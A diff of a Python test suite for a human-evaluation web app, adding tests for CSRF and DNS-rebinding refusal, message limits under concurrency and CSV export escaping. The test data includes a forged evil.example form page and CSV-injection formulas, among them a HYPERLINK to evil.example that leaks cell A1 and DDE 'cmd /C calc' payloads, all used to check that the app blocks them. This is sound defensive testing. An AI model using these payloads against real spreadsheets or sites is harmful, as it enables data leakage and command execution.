@@ -1,6 +1,8 @@
 """The human-evaluation app: a full rater session and an annotation in headless Chromium
 (Playwright on Debian's chromium), escaping, blindness, limits, concurrency and export."""
 
+import html
+import json
 import os
 import re
 import shutil
@@ -25,6 +27,7 @@ from ixmcts.llm.models import ModelSpec
 CHROMIUM = os.environ.get("IXMCTS_CHROMIUM", "/usr/bin/chromium")
 ARTIFACTS = Path(os.environ.get("IXMCTS_TEST_ARTIFACTS", ROOT / "test-artifacts"))
 ARMS = {"SFT": "run-sft-7f3a", "Aligned": "run-aligned-91bc"}  # must never reach a page
+ORIGIN = "http://127.0.0.1"  # the test client's address: its forms come from the app's own pages
 PAIRS = [{"scenario": "esc", "context": [{"role": "system", "content": "You are a supporter."},
                                          {"role": "user", "content": f"I failed exam number {i}."}],
           "chosen": f"That sounds hard. What happened in exam {i}?", "rejected": f"Exams {i} are fine.",
@@ -85,7 +88,7 @@ def client(tmp_path):
     from fastapi.testclient import TestClient
 
     study = echo_study(tmp_path / "study.db", max_body_bytes=4096, max_message_chars=200, max_exchanges=2)
-    return TestClient(create_app(study)), study
+    return TestClient(create_app(study), base_url=ORIGIN, headers={"origin": ORIGIN}), study
 
 
 def start_session(c, name="Ada") -> str:
@@ -201,12 +204,34 @@ def test_a_script_in_a_chat_message_or_a_name_renders_as_text(browser, tmp_path)
         assert page.title() != "owned"
         token = page.url.split("/")[4]
         for slot in ("A", "B"):
-            httpx.post(f"{url}/s/{token}/chat/{slot}", data={"message": "hi"})
-        httpx.post(f"{url}/s/{token}/rate", data=RATING)
+            httpx.post(f"{url}/s/{token}/chat/{slot}", data={"message": "hi"}, headers={"origin": url})
+        assert httpx.post(f"{url}/s/{token}/rate", data=RATING, headers={"origin": url}).status_code == 303
         page.goto(f"{url}/s/{token}/done")
         assert page.inner_text("#rater-name") == name
         assert page.locator("main script, main img").count() == 0 and page.title() != "owned"
         page.close()
+
+
+def test_a_form_on_another_site_cannot_post_to_the_app_from_chromium(browser, tmp_path):
+    """CSRF in a real browser: a page on evil.example (served by Playwright's router, no network)
+    auto-submits forms to the study; Chromium sends its Origin and the app refuses them all."""
+    study = echo_study(tmp_path / "study.db")
+    with Server(create_app(study)) as url:
+        forms = "".join(f'<form method="post" action="{url}{path}" id="f{i}">{fields}<button id="b{i}">go</button></form>'
+                        for i, (path, fields) in enumerate([
+                            ("/rate", '<input name="name" value="Mallory"><input name="consent" value="yes">'),
+                            ("/annotate", '<input name="name" value="Mallory">')]))
+        page = browser.new_page()
+        page.route("http://evil.example/**", lambda route: route.fulfill(content_type="text/html", body=f"<html><body>{forms}</body></html>"))
+        for i in range(2):
+            page.goto("http://evil.example/")
+            with page.expect_navigation():
+                page.click(f"#b{i}")
+            assert "cross-origin request refused: http://evil.example is not this app" in page.inner_text("#error")
+        page.close()
+    assert study.store.counts()["sessions"] == 0
+    with sqlite3.connect(study.store.path) as db:
+        assert db.execute("SELECT COUNT(*) FROM raters").fetchone()[0] == 0
 
 
 # the HTTP layer ---------------------------------------------------------------------
@@ -282,7 +307,7 @@ def test_200_ratings_from_20_concurrent_clients_are_all_stored(tmp_path):
 
     def rater(i: int) -> int:
         stored = 0
-        with httpx.Client(base_url=url, follow_redirects=False, timeout=60) as c:
+        with httpx.Client(base_url=url, follow_redirects=False, timeout=60, headers={"origin": url}) as c:
             for j in range(10):
                 token = start_session(c, name=f"rater {i}")
                 for slot in ("A", "B"):
@@ -380,3 +405,163 @@ def test_export_command_writes_the_csv_files(client, tmp_path):
     missing = CliRunner().invoke(main, ["human-eval", "export", "--db", str(tmp_path / "none.db")])
     assert missing.exit_code == 2 and "no such database" in missing.output
     shutil.rmtree(tmp_path / "x")
+
+
+# the rules under pressure (issue 18) ---------------------------------------------------
+
+def test_a_rating_without_both_chats_is_refused_and_not_stored(client):
+    """The rating form needs both chats; so does a rating POSTed without the form."""
+    c, study = client
+    token = start_session(c)
+    none = c.post(f"/s/{token}/rate", data=RATING)
+    assert none.status_code == 409 and "chat with Model A and B first" in none.text
+    c.post(f"/s/{token}/chat/A", data={"message": "hi"})
+    only_a = c.post(f"/s/{token}/rate", data=RATING)
+    assert only_a.status_code == 409 and "chat with Model B first" in only_a.text
+    assert study.store.counts()["ratings"] == 0 and not study.store.rated(token)
+
+
+class SlowEcho(Echo):
+    """An echo that takes a while, so that requests overlap; counts what it was asked."""
+
+    def __init__(self, name):
+        super().__init__(name)
+        self.calls, self.lock = 0, threading.Lock()
+
+    def reply(self, problem, history, seed):
+        with self.lock:
+            self.calls += 1
+        time.sleep(0.3)
+        return super().reply(problem, history, seed)
+
+
+def test_concurrent_messages_never_exceed_the_limit_nor_pay_for_refused_ones(tmp_path):
+    study = echo_study(tmp_path / "study.db", max_exchanges=3)
+    study.responders = {name: SlowEcho(name) for name in ARMS}
+    with Server(create_app(study)) as url:
+        with httpx.Client(base_url=url, headers={"origin": url}) as c:
+            token = start_session(c)
+
+        def send(i: int) -> int:
+            with httpx.Client(base_url=url, headers={"origin": url}, timeout=60) as c:
+                return c.post(f"/s/{token}/chat/A", data={"message": f"message {i}"}).status_code
+
+        with ThreadPoolExecutor(8) as pool:
+            codes = sorted(pool.map(send, range(8)))
+    assert codes == [303] * 3 + [409] * 5
+    turns = study.store.turns(token, "A")
+    assert [t["role"] for t in turns] == ["user", "model"] * 3
+    assert sum(r.calls for r in study.responders.values()) == 3  # refused messages cost no generation
+
+
+class Failing(Echo):
+    def reply(self, problem, history, seed):
+        raise RuntimeError("the model fell over")
+
+
+def test_a_failed_generation_gives_its_slot_back(tmp_path):
+    from fastapi.testclient import TestClient
+
+    study = echo_study(tmp_path / "study.db", max_exchanges=1)
+    working = study.responders
+    study.responders = {name: Failing(name) for name in ARMS}
+    c = TestClient(create_app(study), base_url=ORIGIN, headers={"origin": ORIGIN}, raise_server_exceptions=False)
+    token = start_session(c)
+    assert c.post(f"/s/{token}/chat/A", data={"message": "hi"}).status_code == 500
+    assert study.store.turns(token, "A") == []
+    study.responders.update(working)
+    assert c.post(f"/s/{token}/chat/A", data={"message": "hi again"}).status_code == 200  # the one message is still there
+    assert [t["text"] for t in study.store.turns(token, "A")][0] == "hi again"
+
+
+EVIL = "http://evil.example"
+
+
+@pytest.mark.parametrize("headers", [{"origin": EVIL}, {"origin": "null"}, {"referer": EVIL + "/rate"},
+                                     {"origin": "http://127.0.0.1.evil.example"}, {"origin": "http://127.0.0.1:9"},
+                                     {}],
+                         ids=["evil-origin", "null-origin", "evil-referer", "lookalike", "other-port", "neither"])
+def test_cross_origin_state_changes_are_refused_and_store_nothing(tmp_path, headers):
+    from fastapi.testclient import TestClient
+
+    study = echo_study(tmp_path / "study.db")
+    own = TestClient(create_app(study), base_url=ORIGIN, headers={"origin": ORIGIN})
+    token = start_session(own)
+    own.post(f"/s/{token}/chat/A", data={"message": "hi"})
+    own.post(f"/s/{token}/chat/B", data={"message": "hi"})
+    before = study.store.counts()
+    forged = TestClient(create_app(study), base_url=ORIGIN, headers=headers)
+    for path, data in (("/rate", {"name": "Mallory", "consent": "yes"}), (f"/s/{token}/chat/A", {"message": "x"}),
+                       (f"/s/{token}/rate", RATING), ("/annotate", {"name": "Mallory"})):
+        r = forged.post(path, data=data, follow_redirects=False)
+        assert r.status_code == 403 and "cross-origin request refused" in r.text, (path, r.status_code, r.text)
+    assert study.store.counts() == before
+    with sqlite3.connect(study.store.path) as db:
+        assert db.execute("SELECT COUNT(*) FROM raters WHERE name = 'Mallory'").fetchone()[0] == 0
+    # the app's own pages, by Origin or (a browser that sends none) by Referer, are accepted
+    assert own.post(f"/s/{token}/rate", data=RATING).status_code == 200
+    by_referer = TestClient(create_app(study), base_url=ORIGIN, headers={"referer": ORIGIN + "/annotate"})
+    assert by_referer.post("/annotate", data={"name": "Ann"}, follow_redirects=False).status_code == 303
+
+
+@pytest.mark.parametrize("host", ["evil.example", "evil.example:8000", "127.0.0.1.nip.io", "192.168.1.5"])
+def test_a_host_other_than_the_bound_address_is_refused(tmp_path, host):
+    """DNS rebinding: a page on evil.example whose name now resolves to 127.0.0.1 reaches the
+    app with ``Host: evil.example``: nothing is served to it, nothing is stored from it."""
+    from fastapi.testclient import TestClient
+
+    study = echo_study(tmp_path / "study.db")
+    rebound = TestClient(create_app(study), base_url=f"http://{host}", headers={"origin": f"http://{host}"})
+    for r in (rebound.get("/"), rebound.get("/rate"), rebound.post("/rate", data={"name": "Mallory", "consent": "yes"})):
+        assert r.status_code == 400 and f"Host {host} is not this server's address" in html.unescape(r.text)
+        assert "Model" not in r.text and "consent" not in r.text.lower()
+    assert study.store.counts()["sessions"] == 0
+    for own in ("127.0.0.1:8000", "localhost:8000", "[::1]:8000"):
+        assert TestClient(create_app(study), base_url=f"http://{own}").get("/rate").status_code == 200
+    study.allowed_hosts = None  # allow_remote: the operator's proxy decides who may reach it
+    anywhere = TestClient(create_app(study), base_url=f"http://{host}", headers={"origin": f"http://{host}"})
+    assert anywhere.post("/rate", data={"name": "Remote", "consent": "yes"}, follow_redirects=False).status_code == 303
+    assert anywhere.post("/annotate", data={"name": "x"}, headers={"origin": "http://other.example"}).status_code == 403  # same-origin only
+
+
+def test_study_params_decide_the_allowed_hosts():
+    from ixmcts.human.study import allowed_hosts
+
+    assert allowed_hosts(StudyParams()) == {"127.0.0.1", "localhost", "::1"}
+    assert allowed_hosts(StudyParams(host="::1")) == {"127.0.0.1", "localhost", "::1"}
+    assert allowed_hosts(StudyParams(host="0.0.0.0", allow_remote=True)) is None
+
+
+FORMULAS = ["=HYPERLINK(\"http://evil.example?\"&A1,\"click\")", "+1+1", "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0"]
+HIDDEN = ["\t=1+1", "\r=1+1"]  # the form trims these; a database written otherwise may hold them
+
+
+def test_csv_exports_neutralise_formulas_and_keep_the_raw_text_elsewhere(client, tmp_path):
+    """OWASP CSV injection: a cell that starts with = + - @ tab or CR is prefixed with ' in
+    the CSV files; the database and conversations.jsonl keep what the rater typed."""
+    import csv
+
+    c, study = client
+    for formula in FORMULAS:
+        token = start_session(c, name="r")
+        for slot in ("A", "B"):
+            c.post(f"/s/{token}/chat/{slot}", data={"message": formula})
+        assert c.post(f"/s/{token}/rate", data={**RATING, "a_strengths": formula, "b_weaknesses": formula}).status_code == 200
+    token = start_session(c, name="r")
+    for slot in ("A", "B"):
+        c.post(f"/s/{token}/chat/{slot}", data={"message": "hi"})
+    study.store.rate(token, {slot: {"supportiveness": 5, "willingness": 5, "strengths": HIDDEN[0], "weaknesses": HIDDEN[1]}
+                             for slot in ("A", "B")})
+    files = study.store.export(tmp_path / "out")
+    with open(files["ratings"], newline="", encoding="utf-8") as f:
+        rows = list(csv.DictReader(f))
+    written = [r["strengths"] for r in rows if r["slot"] == "A"] + [r["weaknesses"] for r in rows if r["slot"] == "B"]
+    assert sorted(written) == sorted(["'" + f for f in FORMULAS] * 2 + ["'" + HIDDEN[0], "'" + HIDDEN[1]])
+    for row in rows:
+        for value in row.values():
+            assert not value or value[0] not in "=+-@\t\r", row
+    with sqlite3.connect(study.store.path) as db:
+        assert sorted(r[0] for r in db.execute("SELECT strengths FROM ratings WHERE slot = 'A'")) == sorted(FORMULAS + HIDDEN[:1])
+    conversations = files["conversations"].read_text(encoding="utf-8")
+    assert all(json.dumps(f)[1:-1] in conversations for f in FORMULAS)  # the chat messages, as typed
+    assert len(report.read_ratings(files["ratings"])) == 2 * (len(FORMULAS) + 1)  # the report still reads it
